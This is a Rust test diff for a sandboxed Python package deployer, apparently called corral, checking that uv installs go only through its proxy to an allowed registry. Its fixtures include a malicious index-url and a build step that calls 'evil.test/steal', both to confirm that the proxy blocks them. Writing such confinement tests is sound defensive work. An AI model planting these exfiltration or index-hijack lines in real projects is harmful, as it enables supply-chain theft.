@@ -1394,3 +1394,137 @@ fn package_specs_must_be_pinned_valid_and_in_the_registry() {
         assert_nothing_left(&out);
     }
 }
+
+/// uv, installed by scripts/test.sh from PyPI (a wheel with a static
+/// binary) into the test venv.
+const UV: &str = "/opt/corral-test-venv/bin/uv";
+
+fn uv() -> &'static str {
+    assert!(
+        Path::new(UV).is_file(),
+        "{UV} is missing: scripts/test.sh installs it (pip install uv into /opt/corral-test-venv)"
+    );
+    UV
+}
+
+#[test]
+fn uv_installs_a_package_project_through_the_proxy_from_the_named_index_only() {
+    let reg = registry();
+    let base = Base::new();
+    let src = package_source(&base, "src", None);
+    // A [tool.uv] index of the source's own is not where packages come
+    // from: corral's configuration is (uv runs with UV_NO_CONFIG).
+    let mut py = std::fs::read_to_string(src.join("pyproject.toml")).unwrap();
+    py.push_str(&format!(
+        "\n[tool.uv]\nindex-url = \"http://evil.test:{}/simple/\"\n",
+        reg.port
+    ));
+    std::fs::write(src.join("pyproject.toml"), py).unwrap();
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
+    let m = ok(&v);
+    assert_eq!(m["pattern"], "python_package");
+    let script = m["phases"][0]["argv"][2].as_str().unwrap();
+    assert!(
+        script.contains(&format!("{UV} sync --no-dev --no-editable --python")),
+        "{script}"
+    );
+    assert!(!script.contains("pip install"), "{script}");
+    assert_eq!(m["entry"]["path"], ".venv/bin/corral-app");
+    assert!(m["lockfiles"]["uv.lock"].is_string(), "{m}");
+    let pk = m["packages"].as_array().unwrap();
+    assert!(pk.iter().any(|p| p == "corral_dep==1.0"), "{pk:?}");
+    // Through the proxy, to the registry only; evil.test never asked.
+    let allowed = events_of(&v, "net.allowed");
+    assert!(!allowed.is_empty(), "{v}");
+    assert!(
+        allowed
+            .iter()
+            .all(|e| e["fields"]["domain"] == "registry.test"),
+        "{allowed:?}"
+    );
+    assert!(events_of(&v, "net.denied").is_empty(), "{v}");
+    assert!(reg.requests().contains("/simple/corral-dep/"));
+    let said = run_in_tree(
+        "mcp-python",
+        &out,
+        true,
+        &[
+            "python3",
+            out.join(".venv/bin/corral-app").to_str().unwrap(),
+        ],
+    );
+    assert_eq!(said, "app dep-1.0\n");
+    // Redeploying with uv is a no-op.
+    let again = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
+    assert_eq!(again["noop"], true, "{again}");
+}
+
+#[test]
+fn uv_is_confined_like_pip_and_installs_packages_by_name() {
+    let reg = package_registry();
+    let base = Base::new();
+    // A build backend that dials a domain not allowed: refused by the
+    // proxy, the deployment fails.
+    let src = package_source(
+        &base,
+        "src",
+        Some(&format!("network http://evil.test:{}/steal", reg.port)),
+    );
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    assert!(
+        events_of(&v, "net.denied")
+            .iter()
+            .any(|e| e["fields"]["domain"] == "evil.test"),
+        "{v}"
+    );
+    assert!(!reg.requests().contains("steal"));
+    assert_nothing_left(&out);
+    // A PyPI package through uv: uv venv, uv pip install.
+    let mut c = corral();
+    c.args(["deploy", "--json", "--timeout", "120", "--uv", uv()])
+        .args(["--package", "pypi:corral-mcp-tool==1.0", "--out"])
+        .arg(&out)
+        .args(reg.flags());
+    if !is_root() {
+        c.arg("--allow-unenforced-limits");
+    }
+    let o = c.output().unwrap();
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {} {}", text(&o.stdout), text(&o.stderr)));
+    let m = ok(&v);
+    let script = m["phases"][0]["argv"][2].as_str().unwrap();
+    assert!(script.contains(&format!("{UV} pip install")), "{script}");
+    assert_eq!(m["entry"]["path"], ".venv/bin/corral-mcp-tool");
+    assert!(out.join(".venv/bin/corral-mcp-tool").is_file());
+    // A --uv the install profile does not allow is refused up front.
+    let cfg = base.path().join("c.toml");
+    std::fs::write(
+        &cfg,
+        "[profile.noinstaller]\nextends = \"install\"\n[profile.noinstaller.commands]\nallow = [\"sh\", \"python3\"]\n",
+    )
+    .unwrap();
+    let v = deploy(
+        Some(&reg),
+        &src,
+        &base.path().join("tree2"),
+        &[
+            "--uv",
+            uv(),
+            "--config",
+            cfg.to_str().unwrap(),
+            "--install-profile",
+            "noinstaller",
+        ],
+    );
+    assert_eq!(v["error"]["code"], "deploy.config", "{v}");
+    assert!(
+        v["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("does not allow `uv`"),
+        "{v}"
+    );
+}
